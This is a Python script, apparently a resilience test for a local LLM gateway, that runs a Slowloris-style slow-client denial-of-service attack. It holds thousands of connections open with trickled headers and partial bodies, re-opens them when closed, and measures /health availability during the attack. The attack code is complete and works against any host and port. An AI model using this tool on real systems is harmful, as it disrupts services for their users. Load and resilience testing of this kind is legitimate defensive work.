#!/usr/bin/env python3
"""Slow-client attack on a running gateway, with /health probes on fresh connections meanwhile.

Keeps SLOW connections sending request headers one byte at a time and PARTIAL connections that sent
headers and part of a body, re-opening each one the gateway closes, for DURATION seconds. Every 0.5 s a
new connection asks GET /health (5 s timeout). Prints what the gateway closed and how /health fared.
usage: slowloris.py HOST PORT [SLOW=1000] [PARTIAL=1000] [DURATION=30] [REOPEN=1]
REOPEN=0: one wave only (closed connections are not re-opened).
"""
import selectors, socket, sys, time, threading

host, port = sys.argv[1], int(sys.argv[2])
slow_n = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
partial_n = int(sys.argv[4]) if len(sys.argv) > 4 else 1000
duration = float(sys.argv[5]) if len(sys.argv) > 5 else 30
reopen = (sys.argv[6] if len(sys.argv) > 6 else "1") != "0"
body = b'{"model":"mock-model","messages":[{"role":"user","content":"hi"}]}'
SLOW_HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
PARTIAL_HEAD = (b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                b"Content-Length: %d\r\n\r\n" % (len(body) + 100)) + body
sel = selectors.DefaultSelector()
stats = {"opened": 0, "open_failed": 0, "closed_by_gateway": 0, "answered_408": 0}
health = []  # (ok, seconds)

def open_one(kind):
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect_ex((host, port))
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, {"kind": kind, "sent": False, "got": b""})
        stats["opened"] += 1
    except OSError:
        s.close()
        stats["open_failed"] += 1

def probe():
    end = time.time() + duration
    while time.time() < end:
        t0 = time.time()
        try:
            with socket.create_connection((host, port), timeout=5) as c:
                c.settimeout(5)
                c.sendall(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
                data = b""
                while True:
                    chunk = c.recv(4096)
                    if not chunk:
                        break
                    data += chunk
                health.append((data.startswith(b"HTTP/1.1 200"), time.time() - t0))
        except OSError:
            health.append((False, time.time() - t0))
        time.sleep(max(0, 0.5 - (time.time() - t0)))

threading.Thread(target=probe, daemon=True).start()
for i in range(slow_n):
    open_one("slow")
for i in range(partial_n):
    open_one("partial")
end = time.time() + duration
next_trickle = time.time() + 0.3
while time.time() < end:
    for key, ev in sel.select(timeout=0.1):
        s, st = key.fileobj, key.data
        if ev & selectors.EVENT_WRITE and not st["sent"]:
            try:
                s.send(SLOW_HEAD if st["kind"] == "slow" else PARTIAL_HEAD)
                st["sent"] = True
                sel.modify(s, selectors.EVENT_READ, st)
            except OSError:
                sel.unregister(s); s.close(); stats["open_failed"] += 1
                if reopen:
                    open_one(st["kind"])
            continue
        if ev & selectors.EVENT_READ:
            try:
                chunk = s.recv(4096)
            except OSError:
                chunk = b""
            if chunk:
                st["got"] += chunk
                continue
            stats["closed_by_gateway"] += 1
            if st["got"].startswith(b"HTTP/1.1 408"):
                stats["answered_408"] += 1
            sel.unregister(s); s.close()
            if reopen:
                open_one(st["kind"])  # the attacker comes back
    if time.time() > next_trickle:
        for key in list(sel.get_map().values()):
            if key.data["sent"]:
                try:
                    key.fileobj.send(b"a" if key.data["kind"] == "slow" else b" ")
                except OSError:
                    pass
        next_trickle = time.time() + 0.3
time.sleep(1)
ok = [t for good, t in health if good]
print("attack: %d connections opened, %d open failures, %d closed by the gateway (%d after a 408)"
      % (stats["opened"], stats["open_failed"], stats["closed_by_gateway"], stats["answered_408"]))
print("/health on new connections during the attack: %d of %d answered 200; latency p50 %.3f s, max %.3f s"
      % (len(ok), len(health), sorted(ok)[len(ok) // 2] if ok else float("nan"), max(ok) if ok else float("nan")))
